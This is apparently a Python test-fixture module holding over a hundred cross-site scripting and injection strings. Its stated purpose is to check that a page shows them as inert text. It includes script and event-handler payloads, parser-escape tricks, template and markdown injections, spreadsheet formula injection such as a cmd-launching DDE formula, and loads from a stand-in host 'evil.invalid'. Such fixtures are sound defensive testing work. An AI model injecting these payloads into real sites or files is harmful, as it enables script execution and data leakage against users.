"""More than a hundred texts that try to run, fetch or restyle something when a page shows them.

Each tries to set ``window.pwned``, to open a dialog, or to fetch from ``EVIL``, a host that does not exist; a page that
shows them as text does none of it. The kinds follow the OWASP and PortSwigger lists of ways in.
"""

from __future__ import annotations

import html
from urllib.parse import quote

__all__ = ["EVIL", "TEXTS"]

EVIL = "https://evil.invalid"
_RUN = "window.pwned=1"
_HANDLERS = (
    ("img", "src=x onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("details", "open ontoggle"),
    ("video", "autoplay onloadstart"),
    ("audio", f"src={EVIL}/a.wav onerror"),
    ("input", "autofocus onfocus"),
    ("select", "autofocus onfocus"),
    ("textarea", "autofocus onfocus"),
    ("marquee", "onstart"),
    ("iframe", "onload"),
    ("object", "data=x onerror"),
    ("link", f"rel=stylesheet href={EVIL}/a.css onerror"),
    ("b", "style=animation-name:rotation onanimationstart"),
    ("b", "onpointerover"),
    ("b", "tabindex=1 onfocus"),
    ("style", "onload"),
    ("frameset", "onload"),
    ("meter", "onmouseover"),
    ("dialog", "open onbeforetoggle"),
)
_TAGS = (
    f"<script>{_RUN}</script>",
    f"<script src={EVIL}/a.js></script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"</script><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</title></style></noscript><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"<script type=module>import('{EVIL}/a.js')</script>",
    f"<iframe src={EVIL}></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{_RUN}></iframe>",
    f"<object data=javascript:{_RUN}></object>",
    f"<embed src={EVIL}/a.swf>",
    f"<img src={EVIL}/pixel.png>",
    f"<img srcset='{EVIL}/a.png 1x'>",
    f"<picture><source srcset={EVIL}/a.png><img></picture>",
    f"<image href={EVIL}/a.png>",
    f"<video poster={EVIL}/a.png></video>",
    f"<audio src={EVIL}/a.wav autoplay></audio>",
    f"<link rel=preload as=script href={EVIL}/a.js>",
    f"<link rel=icon href={EVIL}/a.ico>",
    f"<link rel=dns-prefetch href={EVIL}>",
    f"<base href={EVIL}/>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<form action={EVIL}><button autofocus>go</button></form>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"<a href={EVIL} ping={EVIL}/ping>x</a>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><use href=data:image/svg+xml,{quote(f'<svg id=x onload={_RUN}>')}#x></use></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href=javascript:{_RUN}><text y=9>x</text></a></svg>",
    f"<svg><image href={EVIL}/a.svg></svg>",
    f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></mglyph></table></mtext></math>",
    f"<math href=javascript:{_RUN}>x</math>",
    f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'></noscript>",
    f"<xmp><p title='</xmp><img src=x onerror={_RUN}>'></xmp>",
    f"<x onclick={_RUN} style=position:fixed;inset:0;z-index:9999>x</x>",
    "<plaintext>",
    "<!--",
    "<div style='position:fixed;inset:0;background:red;z-index:99999'>your session is over</div>",
)
_STYLES = (
    f"<style>@import '{EVIL}/a.css';</style>",
    f"<style>*{{background:url({EVIL}/a.png)}}</style>",
    f"<style>@font-face{{font-family:x;src:url({EVIL}/a.woff)}}*{{font-family:x}}</style>",
    "<style>body{display:none}</style>",
    f"<p style=background-image:url({EVIL}/a.png)>x</p>",
    f"<p style='list-style:url({EVIL}/a.png);display:list-item'>x</p>",
    f"red;background:url({EVIL}/a.png)",
    f"}} body {{ background: url({EVIL}/a.png) }}",
    f"expression({_RUN})",
)
_ESCAPES = (
    f'" onmouseover="{_RUN}',
    f"' onmouseover='{_RUN}",
    f'" autofocus onfocus="{_RUN}" x="',
    f"` onmouseover=`{_RUN}",
    f'"><img src=x onerror={_RUN}>',
    f"'><svg onload={_RUN}>",
    f'\\"><script>{_RUN}</script>',
    f'"}}}}]);{_RUN};//',
    f"');{_RUN};//",
    f"\\u003cimg src=x onerror={_RUN}\\u003e",
    f"\\x3cscript\\x3e{_RUN}\\x3c/script\\x3e",
    f"\u2028{_RUN}\u2029",
    f"\ufeff<script>{_RUN}</script>",
    f"<\0script>{_RUN}</script>",
    f"<img/src=x\x0conerror={_RUN}>",
    f"<img src=x\tonerror\n=\r{_RUN}>",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"\u202e<img src=x onerror={_RUN}>\u202c",
    html.escape(f"<img src=x onerror={_RUN}>"),
    "".join(f"&#{ord(ch)};" for ch in f"<img src=x onerror={_RUN}>"),
    "".join(f"&#x{ord(ch):x}" for ch in f"<img src=x onerror={_RUN}>"),
    quote(f"<img src=x onerror={_RUN}>"),
)
_TEMPLATES = (
    f"${{{_RUN}}}",
    f"${{(()=>{{{_RUN}}})()}}",
    f"`${{{_RUN}}}`",
    f"{{{{{_RUN}}}}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"{{{{{{{_RUN}}}}}}}",
    f"{{@html '<img src=x onerror={_RUN}>'}}",
    f"<%= {_RUN} %>",
    f"#{{{_RUN}}}",
    f"[[{_RUN}]]",
    "{{#with 'x' as |string|}}{{string.constructor}}{{/with}}",
    "%{value}%{customdata}<extra></extra>",
    "%{x:javascript}",
)
_MARKDOWN = (
    f"![x]({EVIL}/a.png)",
    f"[x](javascript:{_RUN})",
    f"[x]({EVIL})",
    f"![x](x 'onerror={_RUN}')",
    f"<javascript:{_RUN}>",
    f"$\\href{{javascript:{_RUN}}}{{x}}$",
    f"$$\\includegraphics{{{EVIL}/a.png}}$$",
    f"```html\n<script>{_RUN}</script>\n```",
    f'```mermaid\ngraph TD; A-->B; click A "javascript:{_RUN}"\n```',
    f"> <img src=x onerror={_RUN}>",
)
_ADDRESSES = (
    f"javascript:{_RUN}",
    f"jAvAsCrIpT:{_RUN}",
    f"java\tscript:{_RUN}",
    f"data:text/html,<script>opener.{_RUN}</script>",
    f"data:image/svg+xml,<svg onload={_RUN}>",
    f"vbscript:{_RUN}",
    f"//{EVIL.removeprefix('https://')}/a.png",
    f"{EVIL}/a.png",
    f"blob:{EVIL}/a",
    "file:///etc/passwd",
)
_SHEETS = ("=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", f'=HYPERLINK("{EVIL}","x")', f"=IMPORTXML({EVIL};1)")
_OBJECTS = ("__proto__", "constructor", "toString", "hasOwnProperty", "undefined", "NaN", "null", "[object Object]")

TEXTS = (
    *(f"<{tag} {attributes}={_RUN}>" for tag, attributes in _HANDLERS),
    *_TAGS,
    *_STYLES,
    *_ESCAPES,
    *_TEMPLATES,
    *_MARKDOWN,
    *_ADDRESSES,
    *_SHEETS,
    *_OBJECTS,
)
